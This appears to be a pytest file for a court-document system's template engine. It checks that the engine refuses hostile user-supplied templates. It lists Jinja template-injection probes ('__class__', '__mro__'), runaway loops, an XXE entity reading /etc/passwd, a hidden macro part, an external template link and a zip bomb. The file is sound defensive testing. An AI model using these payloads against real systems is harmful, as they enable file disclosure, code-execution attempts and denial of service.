"""A template comes from anybody: it can print and loop, and nothing else."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from jinja2.exceptions import SecurityError, TemplateError

from courtdesk.errors import FileLocked, FileUnreadable, Severity, TemplateFailed
from courtdesk.reports import template_engine
from courtdesk.reports.template_package import read_template
from courtdesk.reports.templates import check_content, render_template
from tests.reports.template_samples import part, saved, template, with_parts

ATTACKS = [
    "{{''.__class__}}",
    "{{''['__class__']}}",
    "{{标题.__class__.__mro__}}",
    "{{标题['__init__']}}",
    "{{标题.format}}",
    "{{标题.upper()}}",
    "{{标题|attr('__class__')}}",
    "{{标题|map('upper')|list}}",
    "{{range(10)}}",
    "{{cycler('a')}}",
    "{{lipsum()}}",
    "{{self}}",
    "{{9**9**9}}",
    "{{'a'*999999999}}",
    "{{标题~标题}}",
    "{{[1,2,3]}}",
    "{% for 甲 in range(999999999) %}{% endfor %}",
    "{% for 甲 in 正文段落 recursive %}{{loop(甲)}}{% endfor %}",
    "{% for 甲 in (1,2) %}{% endfor %}",
    "{% set 甲 = 1 %}",
    "{% include 'x' %}",
    "{% import 'os' as os %}",
    "{% macro 甲() %}{% endmacro %}",
    "{% block 甲 %}{% endblock %}",
    "{% raw %}{{标题}}{% endraw %}{{''.__class__}}",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_reaches_beyond_the_paper_is_refused_by_the_check(attack: str) -> None:
    found = check_content(template("{{发文字号}}", attack), "notice")
    assert any(problem.severity is Severity.ERROR and problem.place == "第 2 段" for problem in found), found


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_reaches_beyond_the_paper_does_not_run_unchecked(attack: str, tmp_path: Path) -> None:
    started = time.perf_counter()
    with pytest.raises(TemplateFailed):
        render_template(saved(tmp_path, template(attack)), {"标题": "甲"}, {"正文段落": ("乙",)})
    assert time.perf_counter() - started < 2


def test_loops_within_loops_end_at_a_depth() -> None:
    deep = "".join(f"{{% for 甲{at} in 正文段落 %}}" for at in range(5)) + "{% endfor %}" * 5
    with pytest.raises(SecurityError):
        template_engine.refuse_unsafe(template_engine.parse(deep))


def test_what_is_longer_than_any_paper_is_stopped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(template_engine, "LONGEST", 100_000)
    content = template("{%p for 甲 in 正文段落 %}", "{{甲}}", "{%p endfor %}")
    with pytest.raises(template_engine.TooMuchError):
        template_engine.fill_in(content, {}, {"正文段落": ["字" * 100] * 10_000})


def test_a_part_of_a_value_that_is_none_of_ours_is_not_there() -> None:
    language = template_engine.TemplateLanguage()
    for value in ("甲", 1, object(), [1]):
        with pytest.raises(TemplateError):
            str(language.getattr(value, "__class__"))


def test_external_entities_are_refused() -> None:
    content = template("{{发文字号}}")
    xml = part(content)
    head, _, rest = xml.partition("?>")
    evil = f'{head}?><!DOCTYPE x [<!ENTITY 甲 SYSTEM "file:///etc/passwd">]>{rest}'
    found = check_content(with_parts(content, {"word/document.xml": evil.encode()}), "notice")
    assert [problem.message for problem in found] == ["文件里有不允许的声明，请用 WPS 或 Word 打开后另存为 .docx"]


def test_a_file_with_macros_under_another_name_is_refused() -> None:
    content = with_parts(template("{{发文字号}}"), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    assert any("宏" in problem.message for problem in check_content(content, "notice"))


def test_a_file_that_fetches_from_elsewhere_is_refused() -> None:
    content = template("{{发文字号}}")
    rels = part(content, "word/_rels/document.xml.rels")
    link = (
        '<Relationship Id="rId99" TargetMode="External" Target="http://192.0.2.1/x.dotm"'
        ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    )
    evil = rels.replace("</Relationships>", f"{link}</Relationships>")
    found = check_content(with_parts(content, {"word/_rels/document.xml.rels": evil.encode()}), "notice")
    assert any("192.0.2.1" in problem.message for problem in found)


def test_a_file_that_unpacks_to_more_than_any_paper_is_refused() -> None:
    bomb = with_parts(template("{{发文字号}}"), {"word/media/image1.png": bytes(61_000_000)})
    assert len(bomb) < 2_000_000
    assert [problem.message for problem in check_content(bomb, "notice")] == ["文件解开后太大，不像是文书模板"]


def test_a_damaged_file_is_told_as_damaged() -> None:
    content = template("{{发文字号}}")
    broken = with_parts(content, {"word/document.xml": part(content).encode()[:-40]})
    assert any("已损坏" in problem.message for problem in check_content(broken, "notice"))
    with pytest.raises(FileUnreadable):
        read_template(Path(__file__))


def test_a_file_held_by_another_program_is_told_so(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = saved(tmp_path, template("{{发文字号}}"))

    def held(_path: Path) -> bytes:
        raise PermissionError(32, "sharing violation")

    monkeypatch.setattr(Path, "read_bytes", held)
    with pytest.raises(FileLocked) as told:
        read_template(path)
    assert "WPS" in told.value.todo
